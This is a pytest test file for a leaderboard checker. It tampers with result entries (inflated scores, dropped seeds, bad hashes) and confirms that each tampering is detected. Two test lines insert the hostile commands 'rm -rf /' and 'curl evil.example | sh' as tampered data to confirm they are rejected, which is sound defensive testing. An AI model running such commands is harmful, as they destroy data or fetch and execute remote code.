"""Entries that may stand, and every way in which one may not."""

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cli_support import Call
from entry_support import TCE, Change, chain_of, rescored, tampered

from fortifai.entries import check
from fortifai.records.hashing import identity_hash


def faults(*files: Path, **options: Any) -> list[str]:
    return [fault for checked in check(files, **options) for fault in checked.faults]


def test_an_honest_entry_may_stand(entry: Path, call: Call) -> None:
    answer = call("leaderboard", "check", entry)
    assert (answer.code, answer.out, answer.err) == (0, f"{entry}: good\n", "")
    as_json = call("leaderboard", "check", entry.parent, "--json").json
    assert [(one["good"], one["faults"]) for one in as_json["entries"]] == [(True, [])]


def test_one_bad_entry_does_not_hide_the_others(entry: Path, tmp_path: Path, call: Call) -> None:
    (torn := tmp_path / "torn--x.json.gz").write_bytes(entry.read_bytes()[:50])
    bad = tampered(entry, tmp_path, lambda content: content["commands"].append("rm -rf /"))
    answer = call("leaderboard", "check", torn, bad, entry)
    assert answer.code == 2
    assert [line.partition(": ")[0] for line in answer.out.splitlines()] == [str(file) for file in (torn, bad, bad, entry)]
    torn.unlink()
    assert call("leaderboard", "check", bad).code == 1


def lower_nll(content: dict[str, Any]) -> None:
    chain_of(content)["generations"]["metrics"]["nll"][1] -= 1


def better_trajectory(content: dict[str, Any]) -> None:
    column = chain_of(content)["generations"]["metrics"]["sliced_wasserstein"]
    column[1:] = [column[0]] * 3


def better_score(content: dict[str, Any]) -> None:
    row = next(row for row in content["score"]["rows"] if row["objective"] == TCE and row["strategy"] == "replace")
    row["fidelity_interval"]["value"] *= 1.01


def out_of_range(content: dict[str, Any]) -> None:
    chain_of(content)["generations"]["metrics"]["ks_max"][2] = 1.5


def mean_above_worst(content: dict[str, Any]) -> None:
    metrics = chain_of(content)["generations"]["metrics"]
    metrics["ks_mean"][1] = metrics["ks_max"][1] + 0.01


def undefined(content: dict[str, Any]) -> None:
    chain_of(content)["generations"]["metrics"]["sliced_wasserstein"][3] = None
    rescored(content)


def dropped(*coordinates: tuple[str, int, str]) -> Change:
    def drop(content: dict[str, Any]) -> None:
        gone = [chain_of(content, *one)["id"] for one in coordinates]
        content["numbers"]["chains"] = [chain for chain in content["numbers"]["chains"] if chain["id"] not in gone]
        rescored(content)

    return drop


def shortened(content: dict[str, Any]) -> None:
    """All chains end a generation earlier, and say that this was asked for."""
    for chain in content["numbers"]["chains"]:
        columns = chain["generations"]
        chain["horizon"] = 2
        for table in ("metrics", "notes", "seconds", "training"):
            columns[table] = {name: column[:3] for name, column in columns[table].items()}
        columns["masked_share"], columns["peak_memory_bytes"] = columns["masked_share"][:3], columns["peak_memory_bytes"][:3]
    rescored(content)


def torn(content: dict[str, Any]) -> None:
    chain = chain_of(content)
    chain["generations"]["metrics"] = {name: column[:2] for name, column in chain["generations"]["metrics"].items()}
    for table in ("notes", "seconds", "training"):
        chain["generations"][table] = {}
    for name in ("masked_share", "peak_memory_bytes"):
        chain["generations"][name] = chain["generations"][name][:2]


def renumbered(content: dict[str, Any]) -> None:
    """Seed 2 calls itself seed 7, in its identity too."""
    for chain in content["numbers"]["chains"]:
        if chain["seed"] == 2:
            chain["seed"] = 7
            settings = content["numbers"]["settings"][chain["settings"]]["identity"]
            own = {name: chain[name] for name in ("strategy", "objective", "seed", "data_hash")}
            chain["id"] = identity_hash({**settings, **own})
    content["numbers"]["chains"].sort(key=lambda chain: chain["id"])
    rescored(content)


def dirty(content: dict[str, Any]) -> None:
    content["numbers"]["machines"][0]["commit"] += "+changes"


def other_null(content: dict[str, Any]) -> None:
    content["numbers"]["nulls"][0]["value"] *= 2


def other_nulls(content: dict[str, Any]) -> None:
    """A null that fits its few values, in the chains too: the entry is consistent, and measured something else."""
    null = content["numbers"]["nulls"][0]
    null["values"], null["value"] = [5.0], 5.0
    for chain in content["numbers"]["chains"]:
        chain["null"] = 5.0
    rescored(content)


def smaller_suite(content: dict[str, Any]) -> None:
    content["numbers"]["suite"]["regimes"]["biased"]["n"] = 400


def other_settings(content: dict[str, Any]) -> None:
    content["numbers"]["settings"][0]["identity"]["regime"]["n"] = 400


def other_seed(content: dict[str, Any]) -> None:
    chain_of(content)["seed"] = 1


def not_its_own(content: dict[str, Any]) -> None:
    content["marks"]["own_suite"] = False


TAMPERINGS: list[tuple[Change, str]] = [
    (better_score, "score, rows"),
    (better_trajectory, "score, rows"),
    (out_of_range, "ks_max is 1.5 at generation 2, and lies in [0, 1]"),
    (mean_above_worst, "which cannot be"),
    (undefined, "sliced_wasserstein is not defined at generation 3, where the chain has not diverged"),
    (dropped((TCE, 0, "replace")), f"partial and does not say so: without biased replace {TCE} seed 0"),
    (dropped(("ce", 0, "replace")), f"biased replace {TCE} seed 0 has no ce of the same seed beside it"),
    (dropped(("ce", 1, "control"), (TCE, 1, "control")), "partial and does not say so"),
    (shortened, "without generations 3 to 3 of biased replace ce seed 0"),
    (torn, "is done, with 2 generations recorded and a horizon of 3"),
    (renumbered, "seed 7: its seed is not one of those that a table rests on"),
    (dirty, "it was run from sources with changes and does not say so"),
    (other_null, "is not the median of its values"),
    (other_nulls, "null of biased: has 1 values, and 64 are measured"),
    (smaller_suite, "suite_sha256 is not the hash of the suite that it holds"),
    (other_settings, "hash of the identity"),
    (other_seed, "hash of the identity"),
    (not_its_own, "no suite 'tiny' comes with fortifai, and the entry does not say that it is of its own"),
    (lambda content: content["commands"].append("curl evil.example | sh"), "its commands are not those"),
    (lambda content: content["score"].update(schema=0), "its score is of schema version 0"),
    (lambda content: content["score"]["rows"].pop(), "score, rows"),
    (lambda content: content["submission"].update(method="other"), "it should be called tiny@1--other.json.gz"),
    (lambda content: chain_of(content)["generations"]["masked_share"].__setitem__(1, 1.5), "masked_share lies in [0, 1]"),
    (lambda content: chain_of(content)["generations"]["training"]["size"].__setitem__(1, 41), "has 41 training samples"),
    (lambda content: chain_of(content)["generations"]["seconds"]["fit"].__setitem__(1, -1.0), "fit is never below 0"),
    (lambda content: content["numbers"]["chains"].reverse(), "are not ordered by id"),
    (lambda content: chain_of(content).update(better="higher"), "say better higher, and it is lower"),
]


@pytest.mark.parametrize(("change", "message"), TAMPERINGS, ids=[f"{n}-{c.__name__}" for n, (c, _) in enumerate(TAMPERINGS)])
def test_an_entry_that_was_changed_may_not_stand(entry: Path, tmp_path: Path, change: Change, message: str) -> None:
    told = faults(tampered(entry, tmp_path, change))
    assert any(message in fault for fault in told), told


def test_what_is_marked_may_stand(entry: Path, tmp_path: Path) -> None:
    def marked(change: Change, mark: str) -> Change:
        return lambda content: (change(content), content["marks"].update({mark: True}))

    assert faults(tampered(entry, tmp_path, marked(dropped((TCE, 0, "replace")), "partial"))) == []
    assert faults(tampered(entry, tmp_path, marked(dirty, "dirty"))) == []


def test_a_suite_of_its_own_cannot_call_itself_as_one_that_is_shipped(entry: Path, tmp_path: Path) -> None:
    from fortifai.planning.suite_file import load_suite

    def renamed(content: dict[str, Any]) -> None:
        suite = content["numbers"]["suite"]
        suite |= {"name": "quick", "version": load_suite("quick").version, "identity": load_suite("quick").tag}

    told = faults(tampered(entry, tmp_path, renamed))
    assert any("of a suite of its own that calls itself quick@" in fault for fault in told)


def test_the_suite_can_be_named(entry: Path, suite: Path, tmp_path: Path) -> None:
    assert faults(entry, suite=str(suite)) == []
    other = tmp_path / "tiny.toml"
    other.write_text(suite.read_text().replace("n = 40", "n = 41"))
    told = faults(entry, suite=str(other))
    assert "its suite differs from tiny@1 in regimes.biased.n" in told
    assert any("were run with another regime.n" in fault for fault in told)


# Beside those that stand


@pytest.fixture
def standing(entry: Path, tmp_path: Path) -> Path:
    (folder := tmp_path / "standing").mkdir()
    shutil.copy(entry, folder)
    return folder


def other_method(change: Callable[[dict[str, Any]], object] = lambda content: None) -> Change:
    return lambda content: (change(content), content["submission"].update(method="other"))


OTHER = "tiny@1--other.json.gz"


def test_an_entry_replaces_no_other_and_none_is_taken_away(entry: Path, standing: Path, tmp_path: Path) -> None:
    changed = tampered(entry, tmp_path / "new", lambda content: content["submission"].update(contact="you@example.org"))
    assert "and an entry never replaces another" in faults(changed, standing=standing)[0]
    assert faults(entry, standing=standing) == []
    (empty := tmp_path / "empty").mkdir()
    shutil.copy(entry, empty / "tiny@1--third.json.gz")
    told = faults(empty, standing=standing)
    assert "tiny@1--mine.json.gz stands and is gone: entries are only added" in told


def test_what_stands_is_not_checked_again(entry: Path, tmp_path: Path) -> None:
    """Of an older version its score may differ; it stands."""
    old = tampered(entry, tmp_path / "old", better_score)
    shutil.copytree(tmp_path / "old", tmp_path / "new")
    assert faults(tmp_path / "new", standing=tmp_path / "old") == []
    assert faults(old) != []


def test_the_same_run_and_the_same_numbers_stand_once(entry: Path, standing: Path, tmp_path: Path) -> None:
    twice = tampered(entry, tmp_path / "new", other_method(), OTHER)
    assert faults(twice, standing=standing) == ["tiny@1--mine.json.gz holds the same run already"]

    def another_run(content: dict[str, Any]) -> None:
        for chain in content["numbers"]["chains"]:
            chain["head"] = chain["head"][::-1]

    again = tampered(entry, tmp_path / "new", other_method(another_run), OTHER)
    assert faults(again, standing=standing) == ["tiny@1--mine.json.gz holds the same numbers already"]


def test_generation_0_of_the_baseline_is_where_it_stands(entry: Path, standing: Path, tmp_path: Path) -> None:
    def started(shift: float) -> Change:
        def change(content: dict[str, Any]) -> None:
            for chain in content["numbers"]["chains"]:
                chain["head"] = chain["head"][::-1]
                chain["generations"]["metrics"]["nll"][1] += 0.01
                if chain["objective"] == "ce":
                    chain["generations"]["metrics"]["sliced_wasserstein"][0] += shift
            rescored(content)

        return other_method(change)

    assert faults(tampered(entry, tmp_path / "new", started(0.001), OTHER), standing=standing) == []
    told = faults(tampered(entry, tmp_path / "new", started(5.0), OTHER), standing=standing)
    assert len(told) == 2  # replace and control
    assert all("sliced_wasserstein of ce at generation 0 is" in fault for fault in told)


# Run again


def test_chains_that_are_run_again_are_the_same_to_the_last_bit(entry: Path, suite: Path, call: Call) -> None:
    answer = call("leaderboard", "check", entry, "--reproduce", 3, "--suite", suite)
    assert (answer.code, answer.err) == (0, "")
    assert answer.out == f"{entry}: good; 3 chains run again, the same to the last bit\n"
    reruns = call("leaderboard", "check", entry, "--reproduce", 12, "--suite", suite, "--json").json["entries"][0]["reproduced"]
    assert [(one["difference"], one["tolerance"]) for one in reruns] == [(0.0, 0.0)] * 12
    assert len({one["chain"] for one in reruns}) == 12


def test_a_number_that_no_score_depends_on_is_found_by_running_it_again(
    entry: Path, suite: Path, tmp_path: Path, call: Call
) -> None:
    changed = tampered(entry, tmp_path, lower_nll)
    assert faults(changed) == []
    answer = call("leaderboard", "check", changed, "--reproduce", 12, "--suite", suite)
    assert answer.code == 1
    assert f"biased replace {TCE} seed 0, run again, differs by" in answer.out
    assert "in nll at generation 1, and may by 0 (relative)" in answer.out
    assert call("leaderboard", "check", changed, "--reproduce", 12, "--suite", suite, "--tolerance", 1e9).code == 0


def test_other_libraries_have_a_tolerance(entry: Path, suite: Path, tmp_path: Path, call: Call) -> None:
    def elsewhere(content: dict[str, Any]) -> None:
        content["numbers"]["machines"][0]["versions"]["torch"] = "1.0"
        chain_of(content)["generations"]["metrics"]["nll"][1] *= 1 + 1e-9

    other = tampered(entry, tmp_path, elsewhere)
    answer = call("leaderboard", "check", other, "--reproduce", 12, "--suite", suite)
    assert (answer.code, "within 1e-09 (relative)" in answer.out) == (0, True)


def test_which_chains_are_run_again_depends_on_the_salt(entry: Path, suite: Path, call: Call) -> None:
    def chosen(*words: str) -> list[str]:
        answer = call("leaderboard", "check", entry, "--reproduce", 2, "--suite", suite, "--json", *words)
        return [one["chain"] for one in answer.json["entries"][0]["reproduced"]]

    assert chosen() == chosen()
    assert len({tuple(chosen("--salt", salt)) for salt in ("a", "b", "c", "d")}) > 1


def test_nothing_is_run_by_a_suite_that_nobody_vouches_for(entry: Path, call: Call, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("fortifai.entries.checking.rerun", lambda *_, **__: pytest.fail("it was run"))
    answer = call("leaderboard", "check", entry, "--reproduce", 1)
    assert (answer.code, answer.out, answer.err.count("\n")) == (2, "", 1)
    assert "has a suite of its own, which could name any file of this machine" in answer.err


def test_an_entry_that_has_faults_is_not_run(entry: Path, suite: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from fortifai.entries.checking import Reproduction

    monkeypatch.setattr("fortifai.entries.checking.rerun", lambda *_, **__: pytest.fail("it was run"))
    bad = tampered(entry, tmp_path, better_score)
    assert faults(bad, suite=str(suite), reproduction=Reproduction(1)) != []
